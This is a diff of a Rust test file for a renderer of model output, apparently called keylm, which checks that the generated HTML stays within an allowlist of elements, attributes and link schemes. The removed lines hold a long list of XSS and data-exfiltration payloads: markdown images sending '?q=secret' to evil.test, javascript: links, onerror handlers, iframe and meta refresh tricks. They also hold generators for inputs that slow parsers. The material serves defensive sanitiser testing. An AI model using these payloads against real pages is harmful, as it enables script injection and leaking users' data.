@@ -1,19 +1,25 @@
 //! Whatever a model writes, the page gets a fixed set of elements, asks no one for anything and leads only to http,
 //! https and mailto. The HTML is read by a scanner of its own here, stricter than any browser.
 
+mod payloads;
+
 use keylm::server::render::{StreamRenderer, blocks, differences};
 use keylm::shared::chat::ViewEvent;
+use payloads::{PAYLOADS, pathological};
 use rstest::rstest;
 
 /// What may be on the page: an element and its attributes.
 const ELEMENTS: &[(&str, &[&str])] = &[
-    ("a", &["href", "title", "target", "rel"]),
+    ("a", &["class", "href", "id", "title", "target", "rel"]),
     ("blockquote", &["dir"]),
     ("br", &[]),
-    ("button", &["type", "class", "data-copy"]),
+    (
+        "button",
+        &["type", "class", "data-do", "data-name", "aria-pressed"],
+    ),
     ("code", &["class"]),
     ("del", &[]),
-    ("div", &["class", "tabindex", "role", "aria-label"]),
+    ("div", &["class", "id", "tabindex", "role", "aria-label"]),
     ("em", &[]),
     ("h1", &["dir"]),
     ("h2", &["dir"]),
@@ -29,6 +35,7 @@ const ELEMENTS: &[(&str, &[&str])] = &[
     ("pre", &["tabindex"]),
     ("span", &["class", "title"]),
     ("strong", &[]),
+    ("sup", &[]),
     ("table", &[]),
     ("tbody", &[]),
     ("td", &["class", "dir"]),
@@ -36,6 +43,61 @@ const ELEMENTS: &[(&str, &[&str])] = &[
     ("thead", &[]),
     ("tr", &[]),
     ("ul", &[]),
+];
+
+/// What a formula may be made of, and the attributes of all of that.
+const FORMULA: &[&str] = &[
+    "math",
+    "menclose",
+    "mfrac",
+    "mi",
+    "mmultiscripts",
+    "mn",
+    "mo",
+    "mover",
+    "mpadded",
+    "mphantom",
+    "mprescripts",
+    "mroot",
+    "mrow",
+    "ms",
+    "mspace",
+    "msqrt",
+    "mstyle",
+    "msub",
+    "msubsup",
+    "msup",
+    "mtable",
+    "mtd",
+    "mtext",
+    "mtr",
+    "munder",
+    "munderover",
+];
+const OF_FORMULAS: &[&str] = &[
+    "accent",
+    "accentunder",
+    "class",
+    "depth",
+    "display",
+    "displaystyle",
+    "fence",
+    "form",
+    "height",
+    "largeop",
+    "linethickness",
+    "lspace",
+    "mathvariant",
+    "maxsize",
+    "minsize",
+    "movablelimits",
+    "notation",
+    "rspace",
+    "scriptlevel",
+    "stretchy",
+    "symmetric",
+    "tabindex",
+    "width",
 ];
 
 /// Reads HTML that must be exactly nested tags, quoted attributes and escaped text. Returns the depth, or what is wrong.
@@ -60,9 +122,11 @@ fn scan(html: &str) -> Result<usize, String> {
             continue;
         }
         let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
-        let (_, allowed) = ELEMENTS
-            .iter()
-            .find(|(e, _)| *e == name)
+        let known = ELEMENTS.iter().find(|(e, _)| *e == name);
+        let formula = FORMULA.contains(&name).then_some(OF_FORMULAS);
+        let allowed = known
+            .map(|(_, allowed)| *allowed)
+            .or(formula)
             .ok_or_else(|| format!("<{name}>"))?;
         check_attributes(name, attributes, allowed)?;
         if !matches!(name, "br" | "hr" | "input") {
@@ -98,7 +162,14 @@ fn check_attributes(tag: &str, mut rest: &str, allowed: &[&str]) -> Result<(), S
             .find(|(n, _)| *n == name)
             .map_or("", |(_, v)| *v)
     };
-    if tag == "a" {
+    let within_the_page = ["#note-", "#ref-"]
+        .iter()
+        .any(|head| value("href").starts_with(head));
+    if tag == "a" && within_the_page {
+        if value("rel") != "noopener noreferrer nofollow" || !value("title").is_empty() {
+            return Err(format!("a link to {}", value("href")));
+        }
+    } else if tag == "a" {
         let href = value("href");
         let scheme = ["http://", "https://", "mailto:"]
             .iter()
@@ -193,112 +264,6 @@ fn assert_safe(text: &str) {
     });
 }
 
-/// Ways to make a page ask another origin, or run something, that were found in renderers of model output.
-const PAYLOADS: &[&str] = &[
-    "![x](https://evil.test/?q=secret)",
-    "![x](https://evil.test/?q=secret \"title\")",
-    "![x](<https://evil.test/?q=a b>)",
-    "![x][r]\n\n[r]: https://evil.test/?q=secret",
-    "![x][r]\n[r]: https://evil.test/?q=secret\n",
-    "[r]: https://evil.test/?q=secret\n![x][r]",
-    "[r]: https://evil.test/?q=secret\n![r]",
-    "[r]: https://evil.test/?q=secret\n![r][]",
-    "[r]: <https://evil.test/?q=secret> 'title'\n> ![r]",
-    "[![x](https://evil.test/a.png)](https://evil.test/b)",
-    "![![x](https://evil.test/a.png)](//evil.test/b.png)",
-    "![x](//evil.test/a.png)",
-    "![x](\\\\evil.test\\a.png)",
-    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](javascript&#58;alert(1))",
-    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
-    "[x](&#x6A;avascript:alert(1))",
-    "[x](java&Tab;script:alert(1))",
-    "[x](java&NewLine;script:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](\u{1}javascript:alert(1))",
-    "[x](&#1;javascript:alert(1))",
-    "[x](<  javascript:alert(1)>)",
-    "[x](vbscript:msgbox(1))",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.test/1)",
-    "[x](//evil.test/)",
-    "[x](/\\evil.test/)",
-    "[x](https:evil.test)",
-    "[x](https:\\\\evil.test)",
-    "[x](https://good.test@evil.test/)",
-    "[x](https://good.test\\@evil.test/)",
-    "[x](ht\ttps://evil.test)",
-    "[x](https://evil.test/\"onmouseover=\"alert(1))",
-    "[x](https://evil.test/'onmouseover='alert(1))",
-    "[x](https://evil.test 'a\" onclick=\"alert(1)')",
-    "[x](https://evil.test/\u{202E}gpj.exe)",
-    "[\" onclick=\"alert(1)](https://evil.test)",
-    "[x]: javascript:alert(1)\n[x]",
-    "<javascript:alert(1)>",
-    "<https://evil.test/\"onclick=\"alert(1)>",
-    "<mailto:a@evil.test?body=secret>",
-    "https://evil.test/\"><img/src=x/onerror=alert(1)>",
-    "http://evil.test/&quot;onclick=alert(1)",
-    "<img src=https://evil.test/a.png>",
-    "<img srcset=\"https://evil.test/a.png 2x\">",
-    "<IMG SRC=x onerror=alert(1)//",
-    "a <img src=x onerror=alert(1)> b",
-    "<picture><source srcset=//evil.test/a></picture>",
-    "<svg onload=alert(1)><image href=//evil.test/a /></svg>",
-    "<svg><use href=\"//evil.test/#x\"/></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<style>@import '//evil.test/a.css'</style>",
-    "<style>a{background:url(//evil.test)}</style>",
-    "<p style=\"background:url(//evil.test)\">",
-    "<video poster=//evil.test/a src=//evil.test/b></video>",
-    "<audio src=//evil.test/a autoplay>",
-    "<iframe src=//evil.test></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=//evil.test></object><embed src=//evil.test>",
-    "<link rel=stylesheet href=//evil.test>",
-    "<link rel=prefetch href=//evil.test>",
-    "<link rel=dns-prefetch href=//secret.evil.test>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
-    "<base href=//evil.test>",
-    "<form action=//evil.test><input name=a><button formaction=javascript:alert(1)>x</button></form>",
-    "<table background=//evil.test><tr><td background=//evil.test>x</td></tr></table>",
-    "<body background=//evil.test onload=alert(1)>",
-    "<a href=javascript:alert(1) ping=//evil.test>x</a>",
-    "<script src=//evil.test></script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml-stylesheet href=//evil.test?>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<details open ontoggle=alert(1)>",
-    "<br onclick=alert(1)>",
-    "<br/onclick=alert(1)>",
-    "&lt;img src=x onerror=alert(1)&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "`<img src=x onerror=alert(1)>`",
-    "```\"><img src=x onerror=alert(1)>\ncode\n```",
-    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
-    "~~~js\" onclick=\"alert(1)\nx\n~~~",
-    "    </code></pre><script>alert(1)</script>",
-    "| <img src=x onerror=alert(1)> |\n|---|\n| ![x](//evil.test) |",
-    "- [ ] <input autofocus onfocus=alert(1)>\n- [x] ![x](//evil.test)",
-    "> <div style=x:expression(alert(1))>\n> ![x](//evil.test)",
-    "# <h1 onclick=alert(1)> ![x](//evil.test)",
-    "[^1]\n\n[^1]: ![x](//evil.test)",
-    "$$\\href{javascript:alert(1)}{x}$$",
-    "1. a\n\n   <script>alert(1)</script>\n2. b",
-    "[a](https://e.org)<script>[b](javascript:alert(1))</script>",
-    "**<b>*<i>![x](//evil.test)*</b>**",
-    "\u{202E}<script>alert(1)</script>\u{2066}\u{E0041}\u{E0042}",
-    "a\0b<\0script>alert(1)</script>",
-];
-
 /// What may stand between two payloads.
 const GLUE: &[&str] = &[
     "",
@@ -320,7 +285,7 @@ fn no_payload_gets_an_element_an_attribute_or_an_address_of_its_own() {
     for payload in PAYLOADS {
         assert_safe(payload);
     }
-    assert!(PAYLOADS.len() >= 90);
+    assert!(PAYLOADS.len() >= 130);
     assert_eq!(differences(), 0, "the second lock had to step in");
 }
 
@@ -394,86 +359,46 @@ fn writing_stays_as_it_is(#[case] text: &str) {
     assert_eq!(blocks(text), [format!("<p dir=\"auto\">{text}</p>")]);
 }
 
-/// Texts that made parsers or sanitisers take more than linear time, at about `n` characters.
-fn pathological(n: usize) -> Vec<(&'static str, String)> {
-    let fill = |part: &str| part.repeat(n / part.chars().count() + 1);
-    let steps = |part: fn(usize) -> String| {
-        let mut text = String::new();
-        for i in 0.. {
-            if text.len() >= n {
-                break;
-            }
-            text.push_str(&part(i));
-        }
-        text
-    };
-    vec![
-        ("quotes", fill(">")),
-        (
-            "quotes and lazy lines",
-            format!("{}\n{}", fill("> "), "a\n".repeat(n / 2)),
-        ),
-        ("lists in lists", fill("- ")),
-        (
-            "lists in lists and empty lines",
-            format!("{}a{}x", "- ".repeat(n / 4), "\n".repeat(n / 2)),
-        ),
-        (
-            "lists by indentation",
-            steps(|i| format!("{}- a\n", " ".repeat(2 * i))),
-        ),
-        ("items", fill("- a\n")),
-        ("open emphasis", fill("*a **b _c ")),
-        (
-            "nested emphasis",
-            format!("{}x{}", "*a ".repeat(n / 6), "*".repeat(n / 2)),
-        ),
-        ("code spans", steps(|i| format!("{}a", "`".repeat(i + 1)))),
-        ("open links", fill("[a](")),
-        (
-            "brackets",
-            format!("{}{}", "[".repeat(n / 2), "]".repeat(n / 2)),
-        ),
-        (
-            "images in images",
-            format!("{}{}", "![".repeat(n / 3), "](x)".repeat(n / 6)),
-        ),
-        ("open tags", fill("<div>")),
-        ("open attributes", fill("<a b=\"")),
-        ("open comments", fill("<!-- ")),
-        (
-            "a wide table",
-            format!("{}\n{}\n{}", fill("|a"), fill("|-"), "|x\n".repeat(n / 3)),
-        ),
-        ("a long table", format!("|a|b|\n|-|-|\n{}", fill("|x|y|\n"))),
-        ("definitions", fill("[a]: /x '\n")),
-        (
-            "uses of a long definition",
-            format!("[a]: {}\n{}", "x".repeat(n / 2), "[a]".repeat(n / 6)),
-        ),
-        ("entities", fill("&amp;&#1;&")),
-        ("hidden characters", fill("a\u{202E}\u{E0041}")),
-        ("addresses", fill("http://a.b)")),
-        ("code", format!("```\n{}", fill("let x = 1;\n"))),
-        ("paragraphs", fill("a\n\n")),
-    ]
+/// Fails unless the text is rendered as safe HTML that is neither deep nor large.
+fn assert_flat(name: &str, text: &str) {
+    let blocks = blocks(text);
+    let bytes: usize = blocks.iter().map(String::len).sum();
+    assert!(bytes <= 200 * text.len(), "{name}: {bytes} bytes of HTML");
+    for block in &blocks {
+        let depth = scan(block).unwrap_or_else(|wrong| panic!("{name}: {wrong}"));
+        assert!(depth <= 70, "{name}: {depth} deep");
+    }
 }
 
 #[test]
 fn pathological_text_is_rendered_flat_and_without_amplification() {
     for n in [2_000, 20_000] {
         for (name, text) in pathological(n) {
-            let blocks = blocks(&text);
-            let bytes: usize = blocks.iter().map(String::len).sum();
-            assert!(
-                bytes <= 200 * text.len(),
-                "{name} at {n}: {bytes} bytes of HTML"
-            );
-            for block in &blocks {
-                let depth = scan(block).unwrap_or_else(|wrong| panic!("{name} at {n}: {wrong}"));
-                assert!(depth <= 70, "{name} at {n}: {depth} deep");
-            }
+            assert_flat(&format!("{name} at {n}"), &text);
         }
+    }
+    assert_eq!(differences(), 0, "the second lock had to step in");
+}
+
+#[test]
+fn two_hundred_kilobytes_of_nesting_are_rendered_flat() {
+    const NESTED: [&str; 8] = [
+        "quotes",
+        "lists in lists",
+        "lists by indentation",
+        "nested emphasis",
+        "brackets",
+        "images in images",
+        "a wide table",
+        "notes in notes",
+    ];
+    let nested: Vec<_> = pathological(200_000)
+        .into_iter()
+        .filter(|(name, _)| NESTED.contains(name))
+        .collect();
+    assert_eq!(nested.len(), NESTED.len());
+    for (name, text) in nested {
+        assert_flat(name, &text);
     }
     assert_eq!(differences(), 0, "the second lock had to step in");
 }
